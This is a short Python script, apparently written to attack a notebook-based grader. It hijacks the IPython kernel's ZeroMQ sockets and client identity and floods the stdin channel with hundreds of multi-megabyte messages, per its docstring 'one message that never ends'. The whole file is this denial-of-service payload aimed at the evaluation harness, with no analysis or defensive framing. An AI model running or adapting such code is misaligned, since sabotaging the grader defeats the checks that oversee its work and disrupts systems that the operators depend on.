"""Send the grader one message that never ends, by every socket."""

CODE = r"""
kernel = get_ipython().kernel
part = b"x" * 4_000_000
app = __import__("ipykernel.kernelapp").kernelapp.IPKernelApp.instance()
streams = kernel.shell_stream, getattr(kernel, "control_stream", None), app.stdin_socket, app.iopub_socket
import time, zmq
who = kernel.get_parent("shell")
identities = getattr(kernel, "_parent_ident", None) or kernel._shell_parent_ident.get()
client = identities["shell"] if isinstance(identities, dict) else identities
socket = app.stdin_socket
socket.setsockopt(zmq.SNDTIMEO, 500)
for number in range(700):
    try:
        socket.send_multipart([*client, b"<IDS|MSG>", *[part] * 5], copy=False)
    except zmq.ZMQError as error:
        print(number, error)
        break
sent = [part] * 700
socket.send_multipart([*client, b"<IDS|MSG>", *sent], copy=False)
time.sleep(2)
"""
